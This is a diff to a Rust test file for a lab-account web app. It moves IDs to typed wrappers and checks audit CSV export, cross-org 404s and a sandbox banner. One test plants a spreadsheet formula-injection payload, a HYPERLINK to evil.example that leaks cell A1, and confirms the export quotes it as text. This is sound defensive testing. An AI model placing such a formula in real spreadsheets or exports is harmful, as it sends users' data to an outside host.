@@ -1,5 +1,6 @@
 //! Every other page as every role: Teams, the audit log and its CSV export, the 404s across
 //! orgs and Teams, and the sandbox marker. The lab account pages are in `pages_accounts`.
+use labdesk::domain::ids::{LabAccountId, OrgId};
 use labdesk::web::urls;
 
 use crate::support::{
@@ -91,8 +92,8 @@ fn audit_page_filters_and_exports_csv() {
         let mut reader = ::csv::Reader::from_reader(csv.body.as_bytes());
         let rows: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
         // Every row the account has, and only its rows.
-        assert_eq!(rows.len(), audit_rows_of(app, id), "{}", csv.body);
-        assert!(rows.iter().all(|r| &r[6] == id), "{}", csv.body);
+        assert_eq!(rows.len(), audit_rows_of(app, id.as_str()), "{}", csv.body);
+        assert!(rows.iter().all(|r| &r[6] == id.as_str()), "{}", csv.body);
 
         // Clinicians have no audit page.
         let clinician = app.login(CLINICIAN);
@@ -120,8 +121,14 @@ fn another_orgs_or_teams_objects_answer_404() {
             (OPS, urls::team(globex, globex_team)),
             (OPS, urls::team(nw, globex_team)),
             (OPS, urls::audit(globex)),
-            (OPS, urls::lab_account(nw_scope, missing)),
-            (OPS, urls::lab_account(nw_scope, "not-a-uuid")),
+            (
+                OPS,
+                urls::lab_account(nw_scope, &LabAccountId::from_text(missing)),
+            ),
+            (
+                OPS,
+                urls::lab_account(nw_scope, &LabAccountId::from_text("not-a-uuid")),
+            ),
             (CSM, urls::lab_accounts(gx_scope)),
             (CSM, urls::lab_account(nw_scope, globex_account)),
             (OTHER_OPS, urls::lab_accounts(nw_scope)),
@@ -159,12 +166,12 @@ fn another_orgs_or_teams_objects_answer_404() {
         );
         let res = ops.post_form(
             &urls::lab_account_teams(nw_scope, globex_account),
-            &[("team_id", cardio)],
+            &[("team_id", cardio.as_str())],
         );
         assert_eq!(res.status, 404);
         let res = ops.post_form(
             &urls::lab_account_teams(nw_scope, quest_east),
-            &[("team_id", globex_team)],
+            &[("team_id", globex_team.as_str())],
         );
         assert_eq!(res.status, 404);
         assert_eq!(
@@ -179,7 +186,9 @@ fn another_orgs_or_teams_objects_answer_404() {
 
 #[test]
 fn audit_csv_cells_that_start_like_a_formula_are_quoted_as_text() {
-    use labdesk::db::audit::{record, Actor, AuditEntry};
+    use labdesk::db::audit::{record, AuditEntry};
+    use labdesk::domain::actor::Actor;
+    use labdesk::domain::audit::{AuditAction, EntityType};
     each_backend(|app| {
         let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Details")"#;
         let entity = app.world.account("BR-7781");
@@ -187,9 +196,10 @@ fn audit_csv_cells_that_start_like_a_formula_are_quoted_as_text() {
             &mut app.conn(),
             &Actor::system("@SUM(1+1)"),
             AuditEntry {
-                action: "lab_account.edited",
-                entity_type: "lab_account",
-                entity_id: entity,
+                // Any action the log knows: the stored words are an enum now.
+                action: AuditAction::LabAccountUpdated,
+                entity_type: EntityType::LabAccount,
+                entity_id: entity.as_str(),
                 org_id: Some(&app.world.org_id),
                 team_id: None,
                 summary: formula.to_string(),
@@ -212,7 +222,7 @@ fn audit_csv_cells_that_start_like_a_formula_are_quoted_as_text() {
         assert_eq!(&row[9], format!("'{formula}"), "summary");
         assert_eq!(&row[3], "'@SUM(1+1)", "actor");
         // Ordinary cells are untouched, and the page shows the summary as it was written.
-        assert_eq!(&row[6], entity);
+        assert_eq!(&row[6], entity.as_str());
         let page = c.get(&format!(
             "{}?entity_id={entity}",
             urls::audit(&app.world.org_id)
@@ -253,10 +263,10 @@ fn a_sandbox_deployment_says_so_on_every_page_and_production_does_not() {
             }
             // The pages outside the signed-in layout: sign-in, and an error page.
             let sign_in = app.client().get(&urls::sign_in());
-            let unknown_org = uuid::Uuid::new_v4().to_string();
+            let unknown_org = OrgId::new();
             let missing = app
                 .login(OPS)
-                .get(&urls::lab_accounts(urls::Scope::Org(&unknown_org)));
+                .get(&urls::lab_accounts(&urls::Scope::Org(unknown_org)));
             for (what, page) in [("sign-in", sign_in), ("404", missing)] {
                 let header = topbar(&page.body);
                 assert_eq!(header.contains(">Sandbox</strong>"), marked, "{env} {what}");
